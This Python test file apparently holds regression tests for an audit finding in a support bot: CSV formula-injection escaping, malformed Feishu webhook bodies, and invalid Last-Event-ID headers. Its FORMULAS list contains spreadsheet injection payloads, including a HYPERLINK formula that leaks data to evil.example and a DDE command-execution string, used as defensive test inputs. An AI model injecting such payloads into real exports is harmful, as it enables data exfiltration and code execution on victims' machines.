"""Finding 8 (low): CSV export wrote `=HYPERLINK(...)` as is (formula injection); malformed
Feishu bodies and `Last-Event-ID: abc` answered 500 with a traceback in the log."""

from __future__ import annotations

import base64
import csv
import io
import json
import logging
import time
from collections.abc import Iterator
from pathlib import Path

import httpx
import pytest
from bot_harness import Customer, Shop, console_login, live_server, make_bot

from glm_agent.serving.bot import (
    ChannelsConfig,
    FeishuConfig,
    SupportBot,
    create_bot_app,
    feishu_encrypt,
    feishu_signature,
)

KEY = "feishu-encrypt-key"


@pytest.fixture
def bot(tmp_path: Path, shop: Shop) -> Iterator[SupportBot]:
    feishu = FeishuConfig(verification_token="vt", encrypt_key=KEY, api_base="http://127.0.0.1:9")
    b = make_bot(tmp_path, shop, channels=ChannelsConfig(feishu=feishu))
    yield b
    b.close()


@pytest.fixture
def client(bot: SupportBot, caplog: pytest.LogCaptureFixture) -> Iterator[httpx.Client]:
    caplog.set_level(logging.ERROR)
    with (
        live_server(create_bot_app(bot, heartbeat=0.2)) as url,
        httpx.Client(base_url=url, timeout=20) as c,
    ):
        yield c
    errors = [r for r in caplog.records if r.levelno >= logging.ERROR]
    assert errors == [], [r.getMessage() for r in errors]  # no traceback for bad input


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def test_csv_export_never_starts_a_cell_with_a_formula(client: httpx.Client) -> None:
    customer = Customer(client)
    for text in FORMULAS:
        customer.say(text)
    headers = console_login(client)
    r = client.patch(
        f"/v1/console/conversations/{customer.id}/tags",
        json={"intent": "=cmd()", "resolution": "@x"},
        headers=headers,
    )
    assert r.status_code == 200
    r = client.get("/v1/console/export?format=csv", headers=headers)
    assert r.status_code == 200
    cells = [cell for row in csv.reader(io.StringIO(r.text)) for cell in row]
    assert cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # The text is kept, as text.
    assert any(c == "'" + FORMULAS[0] or FORMULAS[0] in c for c in cells)


def signed(body: bytes) -> dict[str, str]:
    ts, nonce = str(int(time.time())), "n"
    return {
        "X-Lark-Request-Timestamp": ts,
        "X-Lark-Request-Nonce": nonce,
        "X-Lark-Signature": feishu_signature(ts, nonce, KEY, body),
    }


def deep(n: int) -> bytes:
    return ("[" * n + "]" * n).encode()


MALFORMED = {
    "list": b"[]",
    "encrypt number": b'{"encrypt": 123}',
    "encrypt list": b'{"encrypt": ["x"]}',
    "short ciphertext": json.dumps({"encrypt": base64.b64encode(b"short").decode()}).encode(),
    "not base64": b'{"encrypt": "%%%not base64%%%"}',
    "garbage ciphertext": json.dumps({"encrypt": base64.b64encode(b"x" * 64).decode()}).encode(),
    "deep nesting": deep(100_000),
    "deep object": b'{"a":' * 50_000 + b"1" + b"}" * 50_000,
    "not json": b"\xff\xfe not json",
    "empty": b"",
    "encrypted list": json.dumps({"encrypt": feishu_encrypt(KEY, "[1, 2]")}).encode(),
    "encrypted header string": json.dumps(
        {"encrypt": feishu_encrypt(KEY, json.dumps({"header": "x", "token": "vt"}))}
    ).encode(),
}


@pytest.mark.parametrize("name", list(MALFORMED))
def test_malformed_feishu_bodies_answer_400(client: httpx.Client, name: str) -> None:
    body = MALFORMED[name]
    r = client.post("/v1/channels/feishu/events", content=body, headers=signed(body))
    assert r.status_code == 400, (name, r.status_code, r.text[:300])
    assert r.json()["error"]["message"]


@pytest.mark.parametrize(
    "value", ["abc", "-1", "1.5", "9" * 40, "１２".encode(), b"\xb2", "1 2", "0x10"]
)
def test_a_bad_last_event_id_answers_400(client: httpx.Client, value: str | bytes) -> None:
    customer = Customer(client)
    path = f"/v1/support/conversations/{customer.id}/events"
    r = client.get(path, headers={**customer.headers, "Last-Event-ID": value})
    assert r.status_code == 400, r.text
    assert "Last-Event-ID" in r.json()["error"]["message"]
    headers = console_login(client)
    r = client.get("/v1/console/events", headers={**headers, "Last-Event-ID": value})
    assert r.status_code == 400, r.text


def test_a_good_last_event_id_resumes(client: httpx.Client) -> None:
    customer = Customer(client)
    customer.say("hello")
    path = f"/v1/support/conversations/{customer.id}/events"
    with client.stream("GET", path, headers={**customer.headers, "Last-Event-ID": "1"}) as r:
        assert r.status_code == 200
        first = next(line for line in r.iter_lines() if line.startswith("id: "))
    assert int(first[4:]) > 1
